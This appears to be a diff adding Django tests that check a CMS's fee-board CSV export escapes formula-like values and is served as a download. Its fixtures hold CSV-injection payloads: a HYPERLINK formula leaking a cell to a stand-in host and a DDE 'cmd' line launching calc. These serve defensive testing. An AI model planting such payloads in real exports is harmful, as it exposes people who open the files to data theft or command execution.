@@ -6,6 +6,7 @@ import io
 from django.conf import settings
 
 from cms.exports import CSV_COLUMNS, SCHEMA
+from cms.services import board_publish
 
 URL = "/boards/wangjing-garden/"
 
@@ -101,3 +102,30 @@ def test_board_csv_has_one_row_per_charge(client, board, service):
     ]
     items = [r for r in rows if r["section"] == "charging_item"]
     assert len(items) == board.fee_items.count() and items[0]["cancellation_fee"] == ""
+
+
+# --- CSV injection and downloads ----------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
+
+
+def test_a_fee_item_named_like_a_formula_is_text_in_board_csv(client, board):
+    draft = board.get_latest_revision_as_object()
+    items = list(draft.fee_items.all())
+    items[0].name = FORMULA
+    items[0].name_en = "+1+cmd|' /C calc'!A0"
+    items[0].unit = "＝1+1"  # full-width, as a Chinese IME types it
+    draft.fee_items = items
+    board_publish(board=board, draft=draft)
+    response = client.get(URL + "board.csv")
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    item = next(r for r in rows if r["section"] == "charging_item")
+    assert item["name"] == "'" + FORMULA
+    assert item["name_en"] == "'+1+cmd|' /C calc'!A0"
+    assert item["unit"] == "'＝1+1"
+    assert item["price"] == str(items[0].amount)  # a number, left as one
+
+
+def test_board_csv_is_served_as_a_download(client, board):
+    response = client.get(URL + "board.csv")
+    assert response["Content-Disposition"] == 'attachment; filename="wangjing-garden-board.csv"'
